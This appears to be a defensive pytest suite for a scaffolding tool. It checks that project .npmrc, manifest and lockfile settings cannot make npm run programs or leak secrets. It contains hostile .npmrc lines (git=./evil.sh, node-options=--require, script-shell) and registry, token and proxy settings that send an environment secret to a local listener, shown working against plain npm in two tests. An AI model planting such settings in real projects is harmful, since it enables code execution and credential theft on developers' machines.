"""What a template or a project tries to make npm do, with the real npm, and with a canary that shows when it does."""

from __future__ import annotations

import json
import subprocess
from typing import TYPE_CHECKING, Any

import pytest

from scaffold.git.run import Git
from scaffold.new.npm_install import install_packages
from scaffold.npm import HARMLESS, NpmRefusedError, find, prepare
from scaffold.update import npm_lockfile
from tests.hostile.listener import listening
from tests.support.command import COMPLETE, scaffold
from tests.support.small_template import small_template, write_files

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.hostile.listener import Listener

COMMIT = "1" * 40
GIT_DEPENDENCY = f"git+ssh://git@127.0.0.1/x.git#{COMMIT}"


@pytest.fixture(autouse=True)
def real_npm(node: dict[str, str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("PATH", node["PATH"])
    # A user without settings of their own, whose registry answers nothing.
    monkeypatch.setenv("npm_config_userconfig", str(tmp_path / "user.npmrc"))
    monkeypatch.setenv("npm_config_cache", str(tmp_path / "cache"))
    monkeypatch.setenv("npm_config_registry", "http://127.0.0.1:9/")
    monkeypatch.setenv("npm_config_fetch_retries", "0")


@pytest.fixture
def listener() -> Iterator[Listener]:
    with listening() as found:
        yield found


def project(folder: Path, npmrc: str = "", wanted: str = "1.0.0", **package: Any) -> Path:
    """Make a project with one dependency, as a template would render it."""
    manifest: dict[str, Any] = {"name": "p", "version": "1.0.0", "dependencies": {"dep": wanted}}
    entry = {"version": "1.0.0", **package}
    locked = {
        "name": "p",
        "version": "1.0.0",
        "lockfileVersion": 3,
        "requires": True,
        "packages": {"": manifest, "node_modules/dep": entry},
    }
    texts = {"package.json": json.dumps(manifest), "package-lock.json": json.dumps(locked)}
    write_files(folder, {**texts, **({".npmrc": npmrc} if npmrc else {})})
    canary(folder)
    return folder


def canary(folder: Path) -> None:
    """Put a program there that leaves a trace wherever it is run from."""
    (folder / "evil.sh").write_text(f"#!/bin/sh\ntouch '{folder}/ran'\nexit 1\n")
    (folder / "evil.sh").chmod(0o755)


def plain_npm(folder: Path, *arguments: str) -> None:
    """Run npm as Scaffold did before: in the project."""
    subprocess.run(["npm", *arguments, "--ignore-scripts"], cwd=folder, capture_output=True, check=False, timeout=120)


def install(folder: Path) -> str:
    note = install_packages(folder, subprocess.DEVNULL)
    assert note is not None
    return note


def test_npm_in_the_project_runs_the_git_that_its_settings_name(tmp_path: Path) -> None:
    """The attack itself: without it the tests below would show nothing."""
    folder = project(tmp_path / "p", "git=./evil.sh\n", GIT_DEPENDENCY, resolved=GIT_DEPENDENCY)
    plain_npm(folder, "ci")
    assert (folder / "ran").exists()


@pytest.mark.parametrize("npmrc", ["git=./evil.sh\n", "git=${PWD}/evil.sh\n", ""])
def test_installing_runs_no_git(tmp_path: Path, npmrc: str, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = project(tmp_path / "p", npmrc, GIT_DEPENDENCY, resolved=GIT_DEPENDENCY)
    monkeypatch.setenv("PWD", str(folder))
    note = install(folder)
    assert not (folder / "ran").exists()
    assert "git" in note
    assert not (folder / "node_modules").exists()


def test_npm_itself_starts_no_git_when_only_the_flags_are_left(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Should a git dependency get past the check of the lockfile, npm still refuses it."""
    folder = project(tmp_path / "p", "", GIT_DEPENDENCY, resolved=GIT_DEPENDENCY)
    (tmp_path / "user.npmrc").write_text(f"git={folder}/evil.sh\n")
    monkeypatch.setattr("scaffold.npm._check_manifest", lambda _: None)
    monkeypatch.setattr("scaffold.npm._check_lockfile", lambda _: [])
    assert "npm ci failed" in install(folder)
    assert not (folder / "ran").exists()


@pytest.mark.parametrize("npmrc", ["git=./evil.sh\n", "git=${PWD}/evil.sh\n", ""])
def test_confirming_a_lockfile_runs_no_git(tmp_path: Path, npmrc: str, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = project(tmp_path / "p", npmrc, GIT_DEPENDENCY, resolved=GIT_DEPENDENCY)
    monkeypatch.setenv("PWD", str(folder))
    assert npm_lockfile.confirm(Git(folder))
    assert not (folder / "ran").exists()


def test_npm_in_the_project_sends_the_environment_to_a_registry_of_the_project(
    tmp_path: Path, listener: Listener, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The attack itself."""
    monkeypatch.setenv("SECRET", "hunter2")
    monkeypatch.delenv("npm_config_registry")
    plain_npm(project(tmp_path / "p", f"registry=http://127.0.0.1:{listener.port}/${{SECRET}}/\n"), "ci")
    assert any(b"hunter2" in heard for heard in listener.heard)


@pytest.mark.parametrize("verb", ["install", "confirm"])
@pytest.mark.parametrize(
    "npmrc",
    [
        "registry=http://127.0.0.1:{port}/${{SECRET}}/\n",
        "//127.0.0.1:{port}/:_authToken=${{SECRET}}\nregistry=http://127.0.0.1:{port}/\n",
        "proxy=http://${{SECRET}}@127.0.0.1:{port}/\n",
    ],
)
def test_no_registry_of_a_project_hears_of_the_environment(
    tmp_path: Path, listener: Listener, monkeypatch: pytest.MonkeyPatch, npmrc: str, verb: str
) -> None:
    monkeypatch.setenv("SECRET", "hunter2")
    monkeypatch.delenv("npm_config_registry")
    folder = project(tmp_path / "p", npmrc.format(port=listener.port))
    refused = install(folder) if verb == "install" else npm_lockfile.confirm(Git(folder))
    assert refused is not None
    assert ".npmrc sets" in refused
    assert listener.heard == []


@pytest.mark.parametrize(
    "line",
    [
        "git=./evil.sh",
        "  git = ./evil.sh",
        '"git"=./evil.sh',
        "git[]=./evil.sh",
        "GIT=./evil.sh",
        "\ufeffgit=./evil.sh",
        "[section]",
        "script-shell=./evil.sh",
        "shell=./evil.sh",
        "node-options=--require ./evil.js",
        "onload-script=./evil.js",
        "node-gyp=./evil.js",
        "init-module=./evil.js",
        "editor=./evil.sh",
        "viewer=./evil.sh",
        "browser=./evil.sh",
        "globalconfig=./other",
        "userconfig=./other",
        "prefix=/",
        "cache=./cache",
        "logs-dir=./logs",
        "registry=https://registry.example.com/",
        "@scope:registry=https://registry.example.com/",
        "//registry.example.com/:_authToken=${TOKEN}",
        "https-proxy=http://proxy.example.com",
        "cafile=./ca.pem",
        "strict-ssl=false",
        "force=true",
        "dangerously-allow-all-scripts=true",
        "loglevel=${TOKEN}",
        "replace-registry-host=always",
    ],
)
def test_a_setting_that_can_start_or_contact_something_is_named_and_npm_is_not_run(tmp_path: Path, line: str) -> None:
    folder = project(tmp_path / "p", f"; a comment\nfund=false\n{line}\n")
    (tmp_path / "scratch").mkdir()
    with pytest.raises(NpmRefusedError) as refused:
        prepare("no such npm", folder, tmp_path / "scratch")
    assert line.partition("=")[0].strip().strip("\ufeff") in str(refused.value)
    assert list((tmp_path / "scratch").iterdir()) == []


@pytest.mark.parametrize(
    ("place", "package", "reason"),
    [
        ("node_modules/dep", {"resolved": "git+ssh://git@example.com/x.git"}, "no https address"),
        ("node_modules/dep", {"resolved": "http://packages.example.com/dep/-/dep-1.0.0.tgz"}, "no https address"),
        ("node_modules/dep", {"resolved": "https://u:p@packages.example.com/dep.tgz"}, "no https address"),
        ("node_modules/dep", {"resolved": "file:../../secret"}, "no https address"),
        ("node_modules/dep", {"resolved": True}, "no https address"),
        ("node_modules/dep", {"resolved": "https://registry.example.com/dep.tgz"}, "no registry of yours"),
        ("node_modules/dep", {"resolved": "../outside", "link": True}, "links"),
        ("node_modules/../../../outside", {"version": "1.0.0"}, "puts a package at"),
        ("../outside", {"version": "1.0.0"}, "puts a package at"),
        ("packages/inside", {"version": "1.0.0"}, "puts a package at"),
        ("node_modules/dep", {"dependencies": {"other": "git+https://example.com/x.git"}}, "no registry"),
        ("node_modules/dep", {"dependencies": {"../x": "1.0.0"}}, "no registry"),
        ("node_modules/dep", ["odd"], "puts a package at"),
    ],
)
def test_a_lockfile_that_leads_elsewhere_is_refused(tmp_path: Path, place: str, package: Any, reason: str) -> None:
    folder = project(tmp_path / "p")
    locked = json.loads((folder / "package-lock.json").read_text())
    locked["packages"] = {"": locked["packages"][""], place: package}
    (folder / "package-lock.json").write_text(json.dumps(locked))
    assert reason in install(folder)


@pytest.mark.parametrize(
    "manifest",
    [
        {"dependencies": {"dep": "github:somebody/dep"}},
        {"dependencies": {"dep": "somebody/dep"}},
        {"dependencies": {"dep": "file:../outside"}},
        {"dependencies": {"dep": "../outside"}},
        {"dependencies": {"dep": ".."}},
        {"dependencies": {"dep": "dep.tgz"}},
        {"devDependencies": {"dep": "https://example.com/dep.tgz"}},
        {"optionalDependencies": {"dep": "workspace:*"}},
        {"overrides": {"a": {"b": {"c": "git+ssh://git@example.com/c.git"}}}},
        {"workspaces": ["../other"]},
    ],
)
def test_a_manifest_that_leads_elsewhere_is_refused(tmp_path: Path, manifest: dict[str, Any]) -> None:
    folder = project(tmp_path / "p")
    (folder / "package.json").write_text(json.dumps({"name": "p", "version": "1.0.0", **manifest}))
    assert "package.json" in install(folder)


def test_a_link_or_a_pipe_in_place_of_a_file_is_refused(tmp_path: Path) -> None:
    folder = project(tmp_path / "p")
    (folder / ".npmrc").symlink_to(tmp_path / "user.npmrc")
    assert ".npmrc is no plain file" in install(folder)


def test_the_package_manager_that_a_manifest_names_is_not_handed_on(tmp_path: Path) -> None:
    """Corepack, which may stand behind the name npm, would fetch and start it."""
    folder = project(tmp_path / "p", "fund=false\n")
    manifest = json.loads((folder / "package.json").read_text())
    (folder / "package.json").write_text(json.dumps({**manifest, "packageManager": "npm@https://example.com/npm.js"}))
    (tmp_path / "scratch").mkdir()
    prepare("no such npm", folder, tmp_path / "scratch")
    assert json.loads((tmp_path / "scratch/package.json").read_text()) == manifest
    assert (tmp_path / "scratch/.npmrc").read_text() == "fund=false\n"


def test_the_settings_of_the_user_hold(tmp_path: Path, listener: Listener, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("npm_config_registry")
    (tmp_path / "user.npmrc").write_text(f"registry=http://127.0.0.1:{listener.port}/mine/\n")
    assert "npm ci failed" in install(project(tmp_path / "p"))
    assert any(heard.startswith(b"GET /mine/dep") for heard in listener.heard)


def test_the_registry_of_the_user_may_stand_in_a_lockfile(tmp_path: Path) -> None:
    folder = project(tmp_path / "p", resolved="https://registry.example.com/dep/-/dep-1.0.0.tgz")
    (tmp_path / "user.npmrc").write_text("@scope:registry=https://registry.example.com/\n")
    (tmp_path / "scratch").mkdir()
    npm = find()
    assert npm is not None
    prepare(npm, folder, tmp_path / "scratch")
    assert (tmp_path / "scratch/package-lock.json").exists()


def test_a_relative_entry_of_the_path_finds_no_npm(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "node_modules/.bin").mkdir(parents=True)
    canary(tmp_path)
    (tmp_path / "evil.sh").rename(tmp_path / "node_modules/.bin/npm")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PATH", "node_modules/.bin")
    assert find() is None


def test_what_our_own_template_brings_is_harmless(tmp_path: Path) -> None:
    done = scaffold("new", "api", *COMPLETE, "--no-git", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    (tmp_path / "scratch").mkdir()
    prepare("no such npm", tmp_path / "api", tmp_path / "scratch")
    named = {line.partition("=")[0] for line in (tmp_path / "scratch/.npmrc").read_text().splitlines()}
    assert {"ignore-scripts", "save-exact"} <= named <= HARMLESS


def test_a_foreign_template_is_created_with_a_note_that_names_the_setting(tmp_path: Path) -> None:
    folder = project(tmp_path / "t", "git=./evil.sh\n", GIT_DEPENDENCY, resolved=GIT_DEPENDENCY)
    small_template(folder, "_exclude: []\n")
    done = scaffold("new", "p", "--template", folder, "--install", "--json", "--no-git", cwd=tmp_path)
    said = json.loads(done.stdout)
    assert said["installed"] is False
    assert any(".npmrc sets git" in note for note in said["notes"])
    assert not list(tmp_path.rglob("ran"))
